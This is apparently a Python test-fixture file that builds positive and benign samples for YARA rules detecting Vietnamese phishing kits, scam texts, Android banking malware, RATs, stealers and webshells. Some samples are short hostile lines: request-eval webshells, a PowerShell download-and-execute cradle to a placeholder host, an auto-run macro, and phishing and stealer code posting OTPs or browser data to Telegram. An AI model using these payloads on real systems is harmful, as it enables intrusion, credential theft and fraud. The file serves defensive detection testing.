"""A sample of what each of our own YARA rules is for, and of what they must leave in peace.

They are put together here, at run time, so that no file of the repository is one.
"""

# ruff: noqa: E501 - a sample is one line

import struct
from collections.abc import Callable

Q = chr(34)
PHP = "<" + "?php "
TELEGRAM = "https://api.telegram" + ".org/bot"
TOKEN = "123456789" + ":AA" + "H" * 33
POST = "$_" + "POST"


def form(*fields: str, action: str = "xuly.php", text: str = "") -> str:
    """An HTML page with a form of these field names."""
    inputs = "".join(f'<input name="{field}" id="{field}">' for field in fields)
    page = f'<html><head><meta charset="utf-8"></head><body>{text}'
    return page + f'<form method="post" action="{action}">{inputs}</form></body></html>'


def program(*words: str, wide: tuple[str, ...] = ()) -> bytes:
    """The beginning of a Windows program that holds these words."""
    narrow = b"\0".join(word.encode() for word in words)
    return b"MZ" + bytes(62) + narrow + b"\0\0" + b"\0\0".join(w.encode("utf-16-le") for w in wide)


def dex(*words: str) -> bytes:
    """The beginning of a DEX file that holds these words, each after its length."""
    return b"dex\n035\0" + bytes(104) + b"".join(
        bytes([len(word) % 128]) + word.encode() + b"\0" for word in words
    )  # fmt: skip


def manifest(*permissions: str) -> bytes:
    """Binary XML with these permissions as UTF-16 strings."""
    names = [f"android.permission.{name}".encode("utf-16-le") for name in permissions]
    return struct.pack("<II", 0x00080003, 4096) + b"\0\0".join(names)


def lines(one: str, count: int) -> str:
    """So many lines, each with its number."""
    return "\n" + "".join(one.format(n=number) + "\n" for number in range(count))


ACCESSIBILITY = "Landroid/accessibilityservice/AccessibilityService;"
POSITIVE: dict[str, Callable[[], str | bytes]] = {
    "webshell_php_runs_request": lambda: f"{PHP}@ev" + f"al({POST}['x']); ?>",
    "webshell_php_packed": lambda: f"{PHP}ev" + "al(gzinflate(base64_decode('" + "QUJD" * 80 + "')));",
    "webshell_php_known_name": lambda: f"{PHP}/* b374" + "k 3.2 */ pass" + "thru($c); php_uname(); chmod($f, 7);",
    "webshell_jsp_runs_request": lambda: "<%" + "@ page %><% Runtime.getRun" + "time().exec(request.getParameter(\"c\")); %>",
    "webshell_asp_runs_request": lambda: "<%" + "ev" + "al request(\"pass\")%>",
    "webshell_shared_key": lambda: f"{PHP}$key={Q}e45e329feb" + f"5d925b{Q};",
    "phishing_vn_telegram_exfiltration": lambda: form("otp") + f"<script>fetch('{TELEGRAM}{TOKEN}/sendMessage?chat_id=1&text='+document.getElementById('otp').value)</script>",
    "phishing_vn_bank_kit": lambda: form("tendangnhap", "otp", action="./xacthuc.php", text="Vietcombank - Ngân hàng số"),
    "phishing_vn_kit_script": lambda: f"{PHP}$a={POST}['username'].{POST}['password'].$_SERVER['REMOTE_ADDR']; file_put_contents('log.txt', $a);",
    "phishing_vn_government_app": lambda: '<html><body>Cài đặt VNeID, Bộ Công an <a href="/tai/vneid.a' + 'pk">Tải</a></body></html>',
    "phishing_vn_refund": lambda: form("so_tai_khoan", "otp", action="gui.php", text="Shopee hoàn tiền đơn hàng"),
    "phishing_kit_visitor_filter": lambda: f"{PHP}$b=array('phishtank','googlebot','netcraft'); if(strpos($_SERVER['HTTP_USER_AGENT'],$b)){{header('HTTP/1.0 404 Not Found');}}",
    "scam_vn_easy_job": lambda: "VIỆC NHẸ LƯƠNG CAO".lower() + ", làm tại nhà, không cần kinh nghiệm, 300k/ngày, ib zalo.me/0900000000",
    "scam_vn_task_site": lambda: "<div>Nạp tiền</div><div>Rút tiền</div><div>Ghép đơn</div><div>Tài khoản bị đóng băng</div><div>Nhiệm vụ hôm nay</div>",
    "scam_vn_loan_fee": lambda: "Vay tiền nhanh, khoản vay 50 triệu, gửi ảnh CCCD. Bạn nhập sai tài khoản, đóng phí giải ngân 10%.",
    "scam_vn_police_call": lambda: "Viện kiểm sát có lệnh bắt anh, chuyển vào tài khoản tạm giữ, giữ bí mật, không được tắt máy",
    "android_manifest_remote_control": lambda: manifest("BIND_ACCESSIBILITY_SERVICE", "SYSTEM_ALERT_WINDOW", "RECEIVE_SMS", "REQUEST_INSTALL_PACKAGES", "RECEIVE_BOOT_COMPLETED"),
    "android_dex_vietnamese_bank_targets": lambda: dex(ACCESSIBILITY, "onAccessibilityEvent", "performGlobalAction", "dispatchGesture", "com.VCB", "com.mbmobile", "com.vnpay.bidv", "com.vietinbank.ipay"),
    "android_dex_sms_to_telegram": lambda: dex("android.provider.Telephony.SMS_RECEIVED", "createFromPdu", TELEGRAM),
    "android_dex_identity_harvest": lambda: dex("face_video", "idCardFront", "content://sms", "socks5", ACCESSIBILITY),
    "android_dex_screen_control": lambda: dex(ACCESSIBILITY, "createVirtualDisplay", "dispatchGesture", "ACTION_ARGUMENT_SET_TEXT_CHARSEQUENCE", "bank_card", "createFromPdu", "TYPE_APPLICATION_OVERLAY"),
    "android_package_strategy_library": lambda: b"PK\x03\x04 AndroidManifest.xml classes.dex lib/arm64-v8a/lib" + b"strategy.so",
    "crypto_wallet_drainer": lambda: "const c = { name: 'Inferno" + " Drainer' }; window.ethereum.request({method:'eth_requestAccounts'}); nft.setApprovalForAll(c, true)",
    "crypto_seed_phrase_form": lambda: form(action="send.php", text="MetaMask: enter your 12-word recovery phrase") + '<text' + 'area name="phrase"></textarea>',
    "crypto_fake_exchange_vn": lambda: "<div>Quyền chọn nhị" + " phân</div><div>Nạp USDT</div><div>Rút tiền</div><p>Cam kết lợi nhuận 5%</p><script>control_" + "win=1</script>",
    "macro_auto_runs_program": lambda: "Sub Auto" + "Open()\nSet s = CreateObject(\"WScript" + ".Shell\")\ns.Run \"power" + "shell -w hidden\"\nEnd Sub",
    "script_download_and_run": lambda: "power" + "shell -nop -w hidden IE" + "X (New-Object Net.WebClient).Download" + "String('http://a.invalid/x')",
    "script_encoded_powershell": lambda: "power" + "shell.exe -nop -enc " + "SQBFAFgA" * 20,
    "shortcut_runs_script": lambda: struct.pack("<II", 0x4C, 0x00021401) + bytes(60) + ("power" + "shell https://a.invalid/x").encode("utf-16-le"),
    "html_application_runs_program": lambda: "<script language=vbscript>Set s = Create" + "Object(\"WScript" + ".Shell\"): s.Run \"cmd /c calc\"</script>",
    "rtf_equation_exploit": lambda: "{\\rt" + "f1{\\object\\obj" + "data 02ce020000000000c000000000000046}}",
    "script_browser_stealer": lambda: f"p='Login Data'; k=j['os_crypt']['encrypted_key']; win32crypt.x(); requests.post('{TELEGRAM}'+t+'/sendDocument')",
    "credentials_combo_list": lambda: lines("nguoi{n}@gmail.com:matkhau{n}", 60),
    "credentials_url_login_password": lambda: lines("https://web{n}.example.vn/login:nguoi{n}:matkhau{n}\n", 30),
    "credentials_stealer_passwords": lambda: lines("URL: https://a{n}.invalid/\nUsername: an{n}\nPassword: 123{n}\nApplication: Google_[Chrome]_Default\n======", 4),
    "credentials_stealer_machine": lambda: "\nBuild ID: x1\nFileLocation: C:\\Users\\an\\a.exe\nHWID: 0123456789ABCDEF0123\nOperation System: Windows 10\nCurrent Language: Vietnamese\n",
    "credentials_password_hashes": lambda: lines("an{n},$2y$10$" + "a" * 53, 120),
    "rat_asyncrat": lambda: program("AsyncClient", "Serversignature", "Anti_Process", "ActivatePong"),
    "rat_njrat": lambda: program(wide=("SEE_MASK_NOZONECHECKS", "netsh firewall add allowedprogram", "[kl]", "|'|'|")),
    "rat_quasar": lambda: program("Quasar.Client", "GetKeyloggerLogsDirectory", "DoShellExecuteResponse"),
    "rat_remcos": lambda: program("Remcos_Mutex_Inj", "Breaking-Security.Net", "Offline Keylogger Started"),
    "rat_xworm": lambda: program(wide=("<Xwormmm>",)),
    "stealer_windows_program": lambda: program("\\Google\\Chrome\\User Data", "\\CocCoc\\Browser\\User Data", "\\Opera Software\\Opera Stable", "wallet.dat", "CryptUnprotectData", "encrypted_key"),
    "keylogger_windows_program": lambda: program("SetWindowsHookEx", "[ENTER]", "[BACK]", "[CAPSLOCK]", "Keystrokes", "GetForegroundWindow", "smtp.x", "Screenshot"),
    "beacon_cobalt_strike": lambda: program("could not run command (w/ token) because of its " + "length of %d bytes!"),
    "ransom_note": lambda: "All of your files have been encrypted! Buy the decryption key with Bitcoin in Tor Browser: " + "a" * 56 + ".onion",
    "extortion_video_letter": lambda: "Tao có clip nóng của mày, chuyển khoản 50 triệu không tao gửi cho gia đình, tung lên mạng",
}  # fmt: skip

BENIGN: dict[str, str | bytes] = {
    "a bank's own page": '<html><body>Vietcombank, ngân hàng số<form action="https://vcbdigibank.vietcombank.com.vn/login"><input type="password" name="otp"></form></body></html>',
    "a warning of the press": "Công an tỉnh cảnh báo chiêu trò việc nhẹ lương cao, làm tại nhà, không cần kinh nghiệm, nhắn tin Zalo để chiếm đoạt tiền của nạn nhân.",
    "a warning about police calls": "Các đối tượng giả danh Viện kiểm sát, đọc lệnh bắt, yêu cầu chuyển vào tài khoản tạm giữ, giữ bí mật. Cơ quan công an đề nghị người dân cảnh giác.",
    "a job offer": "Tuyển cộng tác viên bán hàng, làm việc tại nhà. Hồ sơ gửi về phòng nhân sự.",
    "a monitoring script": f"import requests\nrequests.post('{TELEGRAM}' + token + '/sendMessage', data={{'chat_id': 1, 'text': 'disk full'}})",
    "a login form": form("username", action="/login", text="Đăng nhập") + '<input type="password">',
    "a PHP login": f"{PHP}$u = {POST}['username']; $p = {POST}['password']; $row = $db->find($u); password_verify($p, $row);",
    "addresses with semicolons": lines("an{n}@gmail.com;binh{n}@gmail.com", 200),
    "a list of addresses": lines("an{n}@gmail.com", 200),
    "links": lines("https://example.vn/bai-viet/{n}", 100),
    "a wallet tutorial": "<html><body>MetaMask: write your 12-word recovery phrase on paper. Never enter it on a site.</body></html>",
    "a macro that formats": "Sub AutoOpen()\nSelection.Font.Bold = True\nEnd Sub",
    "a program": program("SetWindowsHookEx", "GetForegroundWindow", "Screenshot"),
    "a dex of a bank": dex("com.VCB", "createFromPdu", "TYPE_APPLICATION_OVERLAY"),
    "a manifest of a chat": manifest("RECEIVE_SMS", "SYSTEM_ALERT_WINDOW", "RECEIVE_BOOT_COMPLETED"),
    "a store link": '<html><body>Tải VNeID của Bộ Công an <a href="https://play.google.com/store/apps/details?id=com.vnid">tại đây</a></body></html>',
    "an account settings page": "<div>Nạp tiền</div><div>Rút tiền</div><div>Nhiệm vụ</div><div>Hoa hồng</div>",
    "nothing": "",
}  # fmt: skip
